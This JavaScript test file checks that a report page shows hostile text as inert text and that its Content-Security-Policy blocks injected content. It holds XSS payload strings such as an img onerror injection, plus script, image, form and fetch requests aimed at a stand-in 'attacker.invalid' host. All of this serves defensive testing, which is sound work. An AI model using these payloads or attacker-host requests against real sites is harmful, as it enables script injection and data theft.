// Hostile text and the Content-Security-Policy.
import assert from 'node:assert/strict';
import { check } from './harness.mjs';
import { countRows, findSearch, findStatus, findTable, readSortableColumns } from './table.mjs';

async function assertHarmless(page) {
    const found = await page.evaluate(() => ({
        flags: Object.keys(window).filter((name) => /^pwned/.test(name)),
        elements: [...document.querySelectorAll('script, style, link, iframe, object, embed, form, base, img, video, audio, marquee, input, template, foreignObject, animate, set')]
            .filter((element) => !(element.matches('head > style, script, input[type=search], input[type=checkbox]:only-of-type')) || element.src).map((element) => element.outerHTML.slice(0, 120)),
        scripts: document.scripts.length,
        handlers: [...document.querySelectorAll('*')].flatMap((element) => [...element.attributes].filter(({ name }) => name.startsWith('on')).map(({ name }) => name)),
        links: [...document.querySelectorAll('[href], [src], [action]')].map((element) => element.getAttribute('href') ?? element.getAttribute('src') ?? element.getAttribute('action'))
            .filter((address) => !/^(#|https:\/\/(github\.com|platform\.qubrid\.com|docs\.qubrid\.com)\/)/.test(address)),
        hidden: document.documentElement.textContent.match(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]/g),
    }));
    assert.deepEqual(found, { flags: [], elements: [], scripts: 1, handlers: [], links: [], hidden: null });
}

check('shows hostile text in every column as text', 'hostile', async (page) => {
    await assertHarmless(page);
    const text = await page.locator('body').innerText();
    for (const marker of ['<script>window.pwned', '<img src=x', '</script>', '</style>', '<!--', ']]>', 'javascript:', '${', '&lt;']) {
        assert.ok(text.includes(marker), `'${marker}' is not shown as text.`);
    }
});

check('shows hostile text in the title, the groups, and the charts as text', 'hostile', async (page) => {
    assert.match(await page.title(), /<script>/);
    assert.match(await page.getByRole('heading', { level: 1 }).innerText(), /<script>/);
    const charts = await page.getByRole('img').evaluateAll((images) => images.map((image) => image.textContent).join('\n'));
    assert.match(charts, /<script>|<img/);
});

check('runs no hostile text while sorting, searching, and opening details', 'hostile', async (page) => {
    for (const { button } of await readSortableColumns(page)) {
        await button.click();
        await button.click();
    }
    for (const text of ['<script>', '"><img src=x onerror=window.pwned=1>', '</script>', '\u202e', '\\', '${window.pwned=1}']) {
        await findSearch(page).fill(text);
    }
    await findSearch(page).fill('<script>');
    assert.ok(await countRows(page) > 0, 'The text is not found.');
    await page.evaluate(() => document.querySelectorAll('details').forEach((details) => { details.open = true; }));
    await assertHarmless(page);
});

check('runs no hostile text without JavaScript', 'hostile', async (page) => {
    assert.equal(await page.locator('script').count(), 1);
    assert.ok(await findTable(page).locator('tbody tr:visible').count() > 10);
}, { javaScriptEnabled: false });

check('shows complete hostile texts of 1 MB without slowing down', 'hostile', async (page) => {
    const size = await page.evaluate(() => document.documentElement.outerHTML.length);
    assert.ok(size < 10_000_000, `The page has ${size} characters.`);
    const longest = await findTable(page).evaluate((table) => Math.max(...[...table.tBodies[0].rows].map((row) => row.innerText.length)));
    assert.ok(longest < 100_000, `A row displays ${longest} characters.`);
});

check('has a policy that forbids everything but its own style and script', 'small', async (page) => {
    const policies = await page.locator('meta[http-equiv="Content-Security-Policy" i]').evaluateAll((elements) => elements.map((element) => element.content));
    assert.equal(policies.length, 1);
    assert.match(policies[0], /default-src 'none'/);
    assert.match(policies[0], /script-src 'sha256-[\w+/=]+'/);
    assert.match(policies[0], /style-src 'sha256-[\w+/=]+'/);
    assert.match(policies[0], /base-uri 'none'/);
    assert.match(policies[0], /form-action 'none'/);
    assert.doesNotMatch(policies[0], /unsafe|\*|http|data:/);
    const position = await page.evaluate(() => [...document.head.children].findIndex((element) => element.httpEquiv?.toLowerCase() === 'content-security-policy'));
    assert.ok(position <= 1, 'The policy is not at the beginning, so it does not apply to what comes before.');
});

check('blocks scripts, styles, images, and requests that were added to the page', 'small', async (page) => {
    const result = await page.evaluate(async () => {
        const add = (name, attributes, text) => {
            const element = Object.assign(document.createElement(name), attributes);
            element.textContent = text ?? '';
            document.body.append(element);
            return element;
        };
        const violations = [];
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violations.push(effectiveDirective));
        add('script', {}, 'window.injected = 1');
        add('script', { src: 'https://attacker.invalid/x.js' });
        add('style', {}, 'body { visibility: hidden !important }');
        add('img', { src: 'https://attacker.invalid/x.png' });
        const button = add('button', {});
        button.setAttribute('onclick', 'window.injected = 2');
        button.click();
        add('form', { action: 'https://attacker.invalid/' }).submit();
        const fetched = await fetch('https://attacker.invalid/').then(() => 'sent', () => 'blocked');
        // The browser does not apply the policy to code that a test evaluates, but to what it starts.
        const evaluated = await new Promise((resolve) => setTimeout(() => {
            try { resolve(new Function('return "ran"')()); } catch { resolve('blocked'); }
        }));
        return { injected: window.injected, visibility: getComputedStyle(document.body).visibility, fetched, evaluated, count: violations.length };
    });
    assert.ok(result.count >= 6, `${result.count} violations`);
    assert.deepEqual({ ...result, count: 0 }, { injected: undefined, visibility: 'visible', fetched: 'blocked', evaluated: 'blocked', count: 0 });
}, { blocks: true });
